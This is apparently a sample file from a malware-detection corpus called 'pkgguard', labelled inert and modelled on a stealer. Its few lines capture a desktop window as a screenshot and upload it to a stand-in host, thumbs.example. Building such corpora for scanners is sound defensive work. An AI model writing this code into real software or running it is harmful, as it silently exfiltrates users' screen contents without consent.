# pkgguard corpus 479 (screenshot), modelled on [stealer-profile]; inert, never run.
import io

import requests
from pywinauto import Desktop

window = Desktop(backend="uia").windows()[0]
image = window.capture_as_image()
buffer = io.BytesIO()
image.save(buffer, format="PNG")
requests.post("https://thumbs.example/u", files={"f": buffer.getvalue()}, timeout=10)
